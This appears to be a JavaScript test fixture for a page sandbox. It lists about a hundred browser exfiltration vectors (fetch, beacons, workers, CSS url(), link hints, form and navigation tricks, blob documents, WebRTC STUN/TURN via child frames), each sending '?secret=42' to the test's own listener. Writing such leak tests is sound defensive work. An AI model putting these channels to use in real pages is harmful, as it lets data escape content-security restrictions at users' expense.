/**
 * Ways in which a script could send data out of a page. Each `run` is turned into text and
 * executed in the page under test with `to`:
 *
 *   to.url(name)   an HTTP address of the test's listener, `name` says who called
 *   to.ws(name)    the same as a WebSocket address
 *   to.port(name)  a port of its own for vectors that do not speak HTTP (see `raw`)
 *   to.host        the listener's host
 *
 * `leaves` marks vectors that may replace the document or make others impossible; each of them
 * gets a fresh page.
 * `raw` names the transport whose bare connection counts as a leak.
 */

const stay = (name, run) => ({ name, run, leaves: false, raw: null });
const leave = (name, run) => ({ name, run, leaves: true, raw: null });
const raw = (name, transport, run) => ({ name, run, leaves: false, raw: transport });

export const VECTORS = [
  // Script APIs.
  stay("fetch", (to) => fetch(to.url("fetch"))),
  stay("fetch-no-cors", (to) => fetch(to.url("fetch-no-cors"), { mode: "no-cors" })),
  stay("fetch-post", (to) => fetch(to.url("fetch-post"), { method: "POST", mode: "no-cors", body: "x" })),
  stay("fetch-keepalive", (to) => fetch(to.url("fetch-keepalive"), { keepalive: true, mode: "no-cors" })),
  stay("xhr", (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to.url("xhr"));
    request.send();
  }),
  stay("beacon", (to) => navigator.sendBeacon(to.url("beacon"), "x")),
  stay("websocket", (to) => new WebSocket(to.ws("websocket"))),
  stay("event-source", (to) => new EventSource(to.url("event-source"))),
  stay("font-face", (to) => new FontFace("leak", `url(${to.url("font-face")})`).load()),
  stay("dynamic-import", (to) => import(to.url("dynamic-import"))),
  stay("audio-worklet", (to) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to.url("audio-worklet"))),
  stay("paint-worklet", (to) => CSS.paintWorklet.addModule(to.url("paint-worklet"))),
  stay("audio-constructor", (to) => {
    const audio = new Audio();
    audio.preload = "auto";
    audio.src = to.url("audio-constructor");
  }),

  // Workers.
  stay("worker-url", (to) => new Worker(to.url("worker-url"))),
  stay("shared-worker-url", (to) => new SharedWorker(to.url("shared-worker-url"))),
  stay("worker-fetch", (to) => to.worker(`fetch("${to.url("worker-fetch")}", {mode: "no-cors"})`)),
  stay("worker-xhr", (to) =>
    to.worker(`const r = new XMLHttpRequest(); r.open("GET", "${to.url("worker-xhr")}"); r.send()`),
  ),
  stay("worker-websocket", (to) => to.worker(`new WebSocket("${to.ws("worker-websocket")}")`)),
  stay("worker-event-source", (to) => to.worker(`new EventSource("${to.url("worker-event-source")}")`)),
  stay("worker-import-scripts", (to) => to.worker(`importScripts("${to.url("worker-import-scripts")}")`)),
  stay("worker-import", (to) => to.worker(`import("${to.url("worker-import")}")`)),
  stay("worker-nested", (to) => to.worker(`new Worker("${to.url("worker-nested")}")`)),

  // Elements.
  stay("img", (to) => to.add("img", { src: to.url("img") })),
  stay("img-object", (to) => {
    new Image().src = to.url("img-object");
  }),
  stay("img-srcset", (to) => to.add("img", { srcset: `${to.url("img-srcset")} 1x` })),
  stay("script", (to) => to.add("script", { src: to.url("script") })),
  stay("module-script", (to) => to.add("script", { type: "module", src: to.url("module-script") })),
  stay("iframe", (to) => to.add("iframe", { src: to.url("iframe") })),
  stay("iframe-srcdoc", (to) => to.add("iframe", { srcdoc: `<img src="${to.url("iframe-srcdoc")}">` })),
  stay("object", (to) => to.add("object", { data: to.url("object") })),
  stay("embed", (to) => to.add("embed", { src: to.url("embed") })),
  stay("video", (to) => to.add("video", { src: to.url("video"), preload: "auto" })),
  stay("video-poster", (to) => to.add("video", { poster: to.url("video-poster") })),
  stay("audio", (to) => to.add("audio", { src: to.url("audio"), preload: "auto" })),
  stay("input-image", (to) => to.add("input", { type: "image", src: to.url("input-image") })),
  stay("table-background", (to) => to.add("table", { background: to.url("table-background") })),
  stay("svg-image", (to) => to.svg("image", to.url("svg-image"))),
  stay("svg-use", (to) => to.svg("use", `${to.url("svg-use")}#a`)),
  stay("svg-fe-image", (to) => to.svg("feImage", to.url("svg-fe-image"))),
  stay("inner-html", (to) => {
    document.body.insertAdjacentHTML("beforeend", `<img src="${to.url("inner-html")}">`);
  }),
  stay("parsed-document", (to) => {
    const parsed = new DOMParser().parseFromString(`<img src="${to.url("parsed-document")}">`, "text/html");
    document.body.append(document.importNode(parsed.querySelector("img"), true));
  }),

  // Style sheets.
  stay("style-background", (to) => {
    to.add("div", {}).style.backgroundImage = `url(${to.url("style-background")})`;
  }),
  stay("style-attribute", (to) => to.add("div", { style: `background: url(${to.url("style-attribute")})` })),
  stay("style-element", (to) => {
    to.add("i", { class: "leak-rule" });
    to.add("style", {}).textContent = `.leak-rule { background: url(${to.url("style-element")}) }`;
  }),
  stay("style-import", (to) => {
    to.add("style", {}).textContent = `@import "${to.url("style-import")}";`;
  }),
  stay("style-sheet-link", (to) => to.add("link", { rel: "stylesheet", href: to.url("style-sheet-link") })),
  stay("adopted-sheet", (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.leak-adopted { background: url(${to.url("adopted-sheet")}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    to.add("i", { class: "leak-adopted" });
  }),
  stay("style-cursor", (to) => {
    to.add("div", {}).style.cursor = `url(${to.url("style-cursor")}), auto`;
  }),
  stay("style-content", (to) => {
    to.add("div", {}).style.content = `url(${to.url("style-content")})`;
  }),
  stay("style-mask", (to) => {
    to.add("div", {}).style.maskImage = `url(${to.url("style-mask")})`;
  }),
  stay("style-filter", (to) => {
    to.add("div", {}).style.filter = `url(${to.url("style-filter")}#a)`;
  }),
  stay("style-list", (to) => {
    to.add("li", {}).style.listStyleImage = `url(${to.url("style-list")})`;
  }),
  stay("style-image-set", (to) => {
    to.add("div", {}).style.backgroundImage = `image-set("${to.url("style-image-set")}" 1x)`;
  }),

  // Hints.
  stay("link-prefetch", (to) => to.add("link", { rel: "prefetch", href: to.url("link-prefetch") })),
  stay("link-preload", (to) => to.add("link", { rel: "preload", as: "image", href: to.url("link-preload") })),
  stay("link-module-preload", (to) => to.add("link", { rel: "modulepreload", href: to.url("link-module-preload") })),
  stay("link-icon", (to) => to.add("link", { rel: "icon", href: to.url("link-icon") })),
  stay("link-manifest", (to) => to.add("link", { rel: "manifest", href: to.url("link-manifest") })),
  stay("speculation-rules", (to) => {
    const rules = { prefetch: [{ urls: [to.url("speculation-rules")] }] };
    to.add("script", { type: "speculationrules" }).textContent = JSON.stringify(rules);
  }),

  // Forms and downloads.
  leave("form-get", (to) => to.add("form", { action: to.url("form-get"), target: "leak" }).submit()),
  leave("form-blank", (to) => to.add("form", { action: to.url("form-blank"), target: "_blank", method: "post" }).submit()),
  leave("form-frame", (to) => {
    to.add("iframe", { name: "leak-frame" });
    to.add("form", { action: to.url("form-frame"), target: "leak-frame", method: "post" }).submit();
  }),
  leave("download", (to) => to.add("a", { href: to.url("download"), download: "a.txt" }).click()),
  leave("link-ping", (to) => to.add("a", { href: "#here", ping: to.url("link-ping") }).click()),

  // Windows.
  leave("window-open", (to) => window.open(to.url("window-open"))),
  leave("window-open-no-opener", (to) => window.open(to.url("window-open-no-opener"), "_blank", "noopener")),
  leave("link-blank", (to) => to.add("a", { href: to.url("link-blank"), target: "_blank" }).click()),
  leave("frame-location", (to) => {
    to.add("iframe", {}).contentWindow.location = to.url("frame-location");
  }),

  // Navigation of the document itself.
  leave("location", (to) => {
    location.href = to.url("location");
  }),
  leave("location-replace", (to) => location.replace(to.url("location-replace"))),
  leave("top-location", (to) => {
    top.location.href = to.url("top-location");
  }),
  leave("link-click", (to) => to.add("a", { href: to.url("link-click") }).click()),
  leave("link-top", (to) => to.add("a", { href: to.url("link-top"), target: "_top" }).click()),
  leave("meta-refresh", (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0; url=${to.url("meta-refresh")}`;
    document.head.append(meta);
  }),
  leave("form-self", (to) => to.add("form", { action: to.url("form-self"), method: "post" }).submit()),
  leave("svg-link", (to) => {
    const link = to.svg("a", to.url("svg-link"));
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }),
  leave("blob-document", (to) => {
    const text = `<img src="${to.url("blob-document")}">`;
    location.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
  }),
  leave("blob-document-script", (to) => {
    const text = `<script>fetch("${to.url("blob-document-script")}", {mode: "no-cors"})</script>`;
    location.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
  }),
  leave("blob-document-refresh", (to) => {
    const text = `<meta http-equiv="refresh" content="0; url=${to.url("blob-document-refresh")}">`;
    location.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
  }),
  leave("document-write", (to) => {
    document.open();
    document.write(`<img src="${to.url("document-write")}">`);
    document.close();
  }),

  // Transports of their own.
  raw("preconnect", "tcp", (to) =>
    to.add("link", { rel: "preconnect", href: `http://${to.host}:${to.port("preconnect")}/` }),
  ),
  raw("web-transport", "udp", (to) => new WebTransport(`https://${to.host}:${to.port("web-transport")}/`)),
  raw("rtc-stun", "udp", (to) => to.peer(window, `stun:${to.host}:${to.port("rtc-stun")}`)),
  raw("rtc-turn-tcp", "tcp", (to) =>
    to.peer(window, `turn:${to.host}:${to.port("rtc-turn-tcp")}?transport=tcp`),
  ),
  raw("rtc-webkit", "udp", (to) =>
    to.peer({ RTCPeerConnection: window.webkitRTCPeerConnection }, `stun:${to.host}:${to.port("rtc-webkit")}`),
  ),
  // A fresh window has globals that the page's script has not touched.
  raw("rtc-child-frame", "udp", (to) =>
    to.peer(to.add("iframe", {}).contentWindow, `stun:${to.host}:${to.port("rtc-child-frame")}`),
  ),
  raw("rtc-child-frame-srcdoc", "udp", async (to) => {
    const frame = to.add("iframe", { srcdoc: "<p>child</p>" });
    await new Promise((done) => setTimeout(done, 300));
    to.peer(frame.contentWindow, `stun:${to.host}:${to.port("rtc-child-frame-srcdoc")}`);
  }),
  raw("rtc-parent", "udp", (to) => to.peer(parent, `stun:${to.host}:${to.port("rtc-parent")}`)),
];

/** Runs before the page's scripts and keeps the Trusted Types policies that they make. */
export function takePolicies() {
  if (!globalThis.TrustedTypePolicyFactory) return;
  const taken = {};
  Object.defineProperty(globalThis, "takenPolicies", { value: taken });
  const { createPolicy } = TrustedTypePolicyFactory.prototype;
  TrustedTypePolicyFactory.prototype.createPolicy = function (name, rules) {
    taken[name] = createPolicy.call(this, name, rules);
    return taken[name];
  };
}

/** Tools for `run`, executed in the page under test. */
export function tools({ host, http, ports }) {
  const add = (name, attributes) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  return {
    host,
    url: (name) => `http://${host}:${http}/${name}?secret=42`,
    ws: (name) => `ws://${host}:${http}/${name}?secret=42`,
    port: (name) => ports[name],
    add,
    svg: (name, href) => {
      const space = "http://www.w3.org/2000/svg";
      const svg = document.createElementNS(space, "svg");
      const element = document.createElementNS(space, name);
      element.setAttribute("href", href);
      svg.append(element);
      document.body.append(svg);
      return element;
    },
    worker: (text) => {
      const url = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
      // The page's own policy, taken when it was made: the worker itself must be tight.
      const policy = globalThis.takenPolicies?.["vocal-worker"];
      return new Worker(policy ? policy.createScriptURL(url) : url);
    },
    peer: (from, server) => {
      const connection = new from.RTCPeerConnection({
        iceServers: [{ urls: server, username: "a", credential: "b" }],
      });
      connection.createDataChannel("leak");
      connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      // Kept alive until the page goes.
      (globalThis.leaks ??= []).push(connection);
    },
  };
}
